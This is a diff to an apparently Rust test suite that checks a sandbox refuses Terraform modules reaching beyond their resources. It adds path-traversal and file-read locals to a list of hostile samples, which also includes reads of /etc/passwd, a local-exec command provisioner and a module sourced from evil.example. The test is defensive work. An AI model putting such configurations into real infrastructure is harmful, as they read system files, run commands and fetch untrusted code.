@@ -46,6 +46,8 @@ fn a_module_that_reaches_beyond_its_resources_is_refused() {
         "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n}",
         "data \"local_file\" \"x\" {\n  filename = \"/etc/passwd\"\n}",
         "resource \"null_resource\" \"x\" {}",
+        "locals {\n  x = file(\"/etc/passwd\")\n}",
+        "locals {\n  x = templatefile(\"../../../x\", {})\n}",
         "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}",
         "resource \"aws_instance\" \"x\" {\n  connection {\n    host = \"x\"\n  }\n}",
         "module \"x\" {\n  source = \"git::https://evil.example/x.git\"\n}",
